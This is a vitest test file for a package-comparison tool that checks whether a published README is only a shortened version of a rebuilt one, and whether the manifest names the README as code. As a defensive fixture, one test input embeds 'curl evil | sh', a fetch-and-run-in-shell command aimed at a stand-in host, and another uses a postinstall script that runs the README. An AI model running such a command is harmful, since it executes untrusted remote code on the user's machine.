import { describe, expect, test } from 'vitest';
import { isNamedIn, isReadmeName, isShortened } from '../../src/compare/shortened-readme.ts';

const shortened = (published: string | Buffer, rebuilt: string) =>
  isShortened(Buffer.from(published), Buffer.from(rebuilt));

test.each([
  ['after its first section', '# a\n\nText.\n', '# a\n\nText.\n\n## More\n\nText.\n'],
  ['in its middle', '# a\n\n[1]: there\n', '# a\n\n## More\n\n[1]: there\n'],
])('lines left out %s', (_, published, rebuilt) => {
  expect(shortened(published, rebuilt)).toBe(true);
});

describe('attack: what a shorter text could hide', () => {
  test.each([
    ['a line of its own', '# a\ncurl evil | sh\n', '# a\n\nText that is longer.\n'],
    ['a line in another order', 'two\none\n', 'one\ntwo\nthree\n'],
    ['a line twice', 'one\none\n', 'one\ntwo\nthree\n'],
    ['half a line', '# a\nnpm i\n', '# a\nnpm i safe\n'],
    ['other line ends', '# a\r\n', '# a\nText.\n'],
    ['bytes that are no text', Buffer.from([0xff, 0x0a]), '\ufffd\nText.\n'],
    ['nothing less', '# a\n', '# a\n'],
  ])('%s, is a difference', (_, published, rebuilt) => {
    expect(shortened(published, rebuilt)).toBe(false);
  });

  test.each([
    'README.js',
    'readme.mjs',
    'README.html',
    'README/index.js',
    'readmes',
    'LICENSE',
    'CHANGELOG.md',
  ])('it never looks at %s', (path) => {
    expect(isReadmeName(path)).toBe(false);
  });

  test.each(['README', 'readme.md', 'docs/Readme.markdown', 'README.txt'])('it looks at %s', (path) => {
    expect(isReadmeName(path)).toBe(true);
  });

  test.each([
    ['a program', { bin: { a: './README.md' } }],
    ['what is loaded', { main: 'readme.md' }],
    ['a word of a script', { scripts: { postinstall: 'sh README.md' } }],
  ])('it is none where the manifest names it as %s', (_, manifest) => {
    expect(isNamedIn(Buffer.from(JSON.stringify(manifest)), 'README.md')).toBe(true);
  });

  test('nor where the manifest cannot be read, or hides the name in escapes', () => {
    expect(isNamedIn(Buffer.from('{'), 'README.md')).toBe(true);
    expect(isNamedIn(Buffer.from('{"main":"\\u0052EADME.md"}'), 'README.md')).toBe(true);
  });

  test('a list of files and an address of the page name no program', () => {
    const manifest = { files: ['README.md'], homepage: 'https://git.example/owner/a#readme' };
    expect(isNamedIn(Buffer.from(JSON.stringify(manifest)), 'README.md')).toBe(false);
    expect(isNamedIn(null, 'README.md')).toBe(false);
  });
});
